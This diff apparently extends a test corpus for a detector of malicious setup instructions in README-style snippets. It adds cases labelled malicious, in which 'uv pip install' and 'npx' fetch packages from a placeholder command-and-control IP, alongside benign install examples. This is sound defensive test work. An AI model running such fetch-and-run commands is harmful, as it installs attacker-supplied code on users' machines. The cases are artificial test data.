@@ -1762,3 +1762,17 @@ BENIGN += [
         "const fs = require('fs');\nconst d = JSON.stringify(process.env);\nfs.writeFileSync('env-snapshot.json', d);\n"
         "fetch('https://api.example.test/v1/status').then(r => r.json()).then(console.log);\n")),
 ]
+
+
+# round 23: package launchers and pip front ends not read before (``uv pip``, ``npx``/``uvx`` given an address)
+MALICIOUS += [
+    Case("uv-pip-from-a-bare-ip", "package-source", md(
+        f"# Setup\n\n```bash\nuv pip install --index-url http://{C2}/simple acme-tools\n```\n")),
+    Case("npx-tarball-from-a-bare-ip", "package-source", md(f"# Setup\n\n```bash\nnpx http://{C2B}/acme.tgz\n```\n")),
+]
+BENIGN += [
+    Case("uv-pip-requirements", "benign", md("# Setup\n\n```bash\nuv pip install -r requirements.txt\n```\n")),
+    Case("uvx-from-a-git-repository", "benign", md(
+        "# Setup\n\n```bash\nuvx --from git+https://github.com/acme/tool tool --help\n```\n")),
+    Case("npx-scaffold", "benign", md("# Setup\n\n```bash\nnpx create-react-app my-app\n```\n")),
+]
